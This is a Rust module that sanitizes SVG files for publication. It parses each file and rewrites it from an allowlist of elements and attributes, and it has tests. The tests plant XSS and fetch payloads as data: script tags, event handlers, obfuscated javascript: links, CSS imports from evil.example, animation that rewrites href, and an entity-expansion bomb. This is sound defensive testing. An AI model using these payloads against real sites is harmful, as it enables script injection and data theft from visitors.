//! SVG sanitizing: an SVG file is a document that can run scripts in the site's origin when it
//! is opened directly (the pages' Content-Security-Policy does not cover it), so every SVG a
//! handbook publishes is parsed with `roxmltree` and written out again from an allowlist:
//! SVG elements only (no `script`, no `foreignObject`, no HTML), no event handlers, no
//! references that leave the site (`http:`, `javascript:`, protocol-relative), no CSS that
//! imports or fetches. Editor metadata in other namespaces (Inkscape, Sodipodi) and comments
//! are dropped silently; anything dangerous that was dropped is reported so its author knows.
//! An SVG that does not parse is refused rather than published as is.
//!
//! `roxmltree` (zero dependencies, from the same maintainers as `usvg`, which parses with it)
//! was chosen over `usvg`: `usvg` rewrites a drawing into its render tree (text turned into
//! paths with a font database, `title`/`desc`, links and animations gone), which would
//! change every diagram's accessibility and look, and it pulls the text-shaping stack into
//! builds without the `pdf` feature.

use roxmltree::{Document, Node, NodeType, ParsingOptions};
use std::fmt::Write as _;

const SVG_NS: &str = "http://www.w3.org/2000/svg";
const XLINK_NS: &str = "http://www.w3.org/1999/xlink";
const XML_NS: &str = "http://www.w3.org/XML/1998/namespace";

/// SVG 1.1 and 2 elements kept: everything that draws, groups, styles or describes. Absent on
/// purpose: `script`, `foreignObject`, `handler`, `listener`, and the font elements.
const ELEMENTS: &[&str] = &[
    "a",
    "animate",
    "animateMotion",
    "animateTransform",
    "circle",
    "clipPath",
    "defs",
    "desc",
    "ellipse",
    "feBlend",
    "feColorMatrix",
    "feComponentTransfer",
    "feComposite",
    "feConvolveMatrix",
    "feDiffuseLighting",
    "feDisplacementMap",
    "feDistantLight",
    "feDropShadow",
    "feFlood",
    "feFuncA",
    "feFuncB",
    "feFuncG",
    "feFuncR",
    "feGaussianBlur",
    "feImage",
    "feMerge",
    "feMergeNode",
    "feMorphology",
    "feOffset",
    "fePointLight",
    "feSpecularLighting",
    "feSpotLight",
    "feTile",
    "feTurbulence",
    "filter",
    "g",
    "image",
    "line",
    "linearGradient",
    "marker",
    "mask",
    "metadata",
    "mpath",
    "path",
    "pattern",
    "polygon",
    "polyline",
    "radialGradient",
    "rect",
    "set",
    "stop",
    "style",
    "svg",
    "switch",
    "symbol",
    "text",
    "textPath",
    "title",
    "tspan",
    "use",
    "view",
];

/// Elements whose `attributeName` decides what they change: animating a link's target is a
/// way to set `href` to `javascript:` after sanitizing.
const ANIMATIONS: &[&str] = &["animate", "animateMotion", "animateTransform", "set"];

/// An SVG rewritten without what could run or fetch, and what was removed (one line each,
/// for a warning); `Err` when the file is not a well-formed SVG document.
pub(crate) fn sanitize(bytes: &[u8]) -> Result<(Vec<u8>, Vec<String>), String> {
    let text = std::str::from_utf8(bytes).map_err(|_| "the file is not UTF-8 text".to_string())?;
    let options = ParsingOptions { allow_dtd: true, ..ParsingOptions::default() };
    let document = Document::parse_with_options(text, options).map_err(|e| format!("not well-formed XML: {e}"))?;
    let root = document.root_element();
    if root.tag_name().namespace() != Some(SVG_NS) || root.tag_name().name() != "svg" {
        return Err("the root element is not <svg> in the SVG namespace".to_string());
    }
    let mut writer = Writer { out: String::with_capacity(bytes.len()), removed: Vec::new() };
    writer.out.push_str("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
    writer.element(root, true);
    writer.out.push('\n');
    Ok((writer.out.into_bytes(), writer.removed))
}

struct Writer {
    out: String,
    removed: Vec<String>,
}

impl Writer {
    fn note(&mut self, node: Node, what: String) {
        let line = node.document().text_pos_at(node.range().start).row;
        self.removed.push(format!("line {line}: {what}"));
    }

    fn element(&mut self, node: Node, root: bool) {
        let name = node.tag_name().name();
        match node.tag_name().namespace() {
            Some(SVG_NS) if ELEMENTS.contains(&name) => {}
            // Editor metadata (Inkscape, Sodipodi, RDF) is not shown by browsers.
            Some(ns) if ns != SVG_NS && !ns.contains("xhtml") => return,
            _ => {
                self.note(node, format!("<{name}> element"));
                return;
            }
        }
        if ANIMATIONS.contains(&name) {
            let target = node.attribute("attributeName").unwrap_or_default().to_ascii_lowercase();
            if target.contains("href") || target.starts_with("on") || target == "style" {
                self.note(node, format!("<{name}> animating {target}"));
                return;
            }
        }
        if name == "style" && !css_is_local(&node.children().filter_map(|c| c.text()).collect::<String>()) {
            self.note(node, "<style> importing or fetching from elsewhere".to_string());
            return;
        }
        let _ = write!(self.out, "<{name}");
        if root {
            let _ = write!(self.out, " xmlns=\"{SVG_NS}\"");
            if node.descendants().any(|n| n.attributes().any(|a| a.namespace() == Some(XLINK_NS))) {
                let _ = write!(self.out, " xmlns:xlink=\"{XLINK_NS}\"");
            }
        }
        for attribute in node.attributes() {
            let (local, value) = (attribute.name(), attribute.value());
            let shown = match attribute.namespace() {
                None => local.to_string(),
                Some(XLINK_NS) if local == "href" => "xlink:href".to_string(),
                Some(XML_NS) if matches!(local, "space" | "lang") => format!("xml:{local}"),
                Some(_) => continue,
            };
            if local.to_ascii_lowercase().starts_with("on") {
                self.note(node, format!("event handler {shown}"));
                continue;
            }
            if local == "href" && !reference_is_local(value, name == "image" || name == "feImage") {
                self.note(node, format!("external reference {shown}={value:?}"));
                continue;
            }
            if !css_is_local(value) {
                self.note(node, format!("{shown} fetching from elsewhere"));
                continue;
            }
            let _ = write!(self.out, " {shown}=\"{}\"", escape(value, true));
        }
        if !node.has_children() {
            self.out.push_str("/>");
            return;
        }
        self.out.push('>');
        for child in node.children() {
            match child.node_type() {
                NodeType::Element => self.element(child, false),
                NodeType::Text => self.out.push_str(&escape(child.text().unwrap_or_default(), false)),
                _ => {}
            }
        }
        let _ = write!(self.out, "</{name}>");
    }
}

/// Whether a link target stays inside the site: a fragment, a relative or root-absolute
/// path, or (for images) an embedded raster image. Browsers ignore ASCII whitespace and
/// control characters inside a URL's scheme (`java\tscript:`), so they do not count here.
fn reference_is_local(value: &str, image: bool) -> bool {
    let url: String = value.chars().filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control()).collect();
    let lower = url.to_ascii_lowercase();
    if image
        && ["data:image/png", "data:image/jpeg", "data:image/gif", "data:image/webp"]
            .iter()
            .any(|p| lower.starts_with(p))
    {
        return true;
    }
    if lower.starts_with("//") || lower.starts_with("\\") {
        return false;
    }
    let scheme_end = lower.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')));
    !matches!(scheme_end.map(|at| &lower[at..]), Some(rest) if rest.starts_with(':'))
}

/// Whether CSS (a `<style>` element, a `style` attribute or a presentation attribute) fetches
/// nothing from outside the document: no `@import`, every `url(` a fragment. A backslash is
/// refused outright, since CSS escapes can spell `url` or `@import` in other letters.
fn css_is_local(css: &str) -> bool {
    let lower = css.to_ascii_lowercase();
    if lower.contains('\\') || lower.contains("@import") || lower.contains("image-set(") {
        return false;
    }
    lower.match_indices("url(").all(|(at, _)| {
        lower[at + 4..].trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '"' || c == '\'').starts_with('#')
    })
}

fn escape(text: &str, attribute: bool) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' if attribute => out.push_str("&quot;"),
            '\n' if attribute => out.push_str("&#10;"),
            '\t' if attribute => out.push_str("&#9;"),
            '\r' => out.push_str("&#13;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(svg: &str) -> (String, Vec<String>) {
        let (bytes, removed) = sanitize(svg.as_bytes()).unwrap();
        (String::from_utf8(bytes).unwrap(), removed)
    }

    /// Each way an SVG can run code or fetch from elsewhere, planted in one drawing whose
    /// harmless parts must survive.
    #[test]
    fn every_vector_is_removed_and_the_drawing_kept() {
        let svg = r##"<?xml version="1.0"?>
<!-- made by hand -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 10 10" onload="alert(1)" inkscape:version="1.3">
  <title>Safe &amp; sound</title>
  <script>alert(2)</script>
  <script xlink:href="https://evil.example/x.js"/>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml" onclick="alert(3)">hi</div></foreignObject>
  <style>@import url(https://evil.example/x.css); rect { fill: red }</style>
  <style>.ok { fill: url(#grad) }</style>
  <style><![CDATA[.a { fill: red }]]><!-- split -->.b { background: url(https://evil.example/2) }</style>
  <defs><linearGradient id="grad"><stop offset="0" stop-color="#000"/></linearGradient></defs>
  <rect id="r" width="5" height="5" onclick="alert(4)" style="fill: url('https://evil.example/track.png')" class="ok"/>
  <rect width="5" height="5" fill="u\72l(https://evil.example/)"/>
  <a xlink:href="java&#9;script:alert(5)"><text x="1" y="8">Link</text></a>
  <a href="//evil.example/"><circle r="1"/></a>
  <a href="#r"><circle r="2"/></a>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
  <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
  <image href="data:image/svg+xml;base64,PHN2Zz4=" width="1" height="1"/>
  <use xlink:href="other.svg#shape"/>
  <set attributeName="href" to="javascript:alert(6)"/>
  <animate attributeName="onbegin" to="alert(7)"/>
  <animate attributeName="opacity" from="0" to="1" dur="1s"/>
  <inkscape:perspective id="p"/>
</svg>"##;
        let (out, removed) = clean(svg);
        for gone in [
            "onload",
            "onclick",
            "<script",
            "evil.example",
            "foreignObject",
            "@import",
            "javascript",
            "alert",
            "inkscape",
            "image/svg+xml",
            "u\\72l",
            "<!--",
        ] {
            assert!(!out.contains(gone), "{gone} survived in\n{out}");
        }
        for kept in [
            "<title>Safe &amp; sound</title>",
            "<style>.ok { fill: url(#grad) }</style>",
            "<rect id=\"r\" width=\"5\" height=\"5\" class=\"ok\"/>",
            "<a href=\"#r\"><circle r=\"2\"/></a>",
            "<text x=\"1\" y=\"8\">Link</text>",
            "href=\"data:image/png;base64,iVBORw0KGgo=\"",
            "<use xlink:href=\"other.svg#shape\"/>",
            "<animate attributeName=\"opacity\"",
            "xmlns:xlink=\"http://www.w3.org/1999/xlink\"",
        ] {
            assert!(out.contains(kept), "{kept} missing from\n{out}");
        }
        assert_eq!(removed.len(), 15, "{removed:#?}");
        assert!(removed.iter().any(|r| r.starts_with("line 3: event handler onload")), "{removed:#?}");
        // What comes out is itself a clean SVG: sanitizing twice changes nothing.
        assert_eq!(clean(&out), (out.clone(), Vec::new()));
    }

    #[test]
    fn what_is_not_an_svg_is_refused() {
        assert!(sanitize(b"<svg><unclosed></svg>").unwrap_err().contains("not well-formed"));
        assert!(sanitize(b"<html xmlns=\"http://www.w3.org/1999/xhtml\"/>").unwrap_err().contains("root element"));
        assert!(sanitize(b"<svg/>").unwrap_err().contains("root element"));
        assert!(sanitize(&[0xFF, 0xFE, 0]).unwrap_err().contains("UTF-8"));
        // Entity expansion bombs are stopped by the parser, not expanded.
        let bomb = "<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">\
            <!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">\
            <!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">\
            <!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]>\
            <svg xmlns=\"http://www.w3.org/2000/svg\"><text>&h;</text></svg>";
        assert!(sanitize(bomb.as_bytes()).is_err());
    }
}
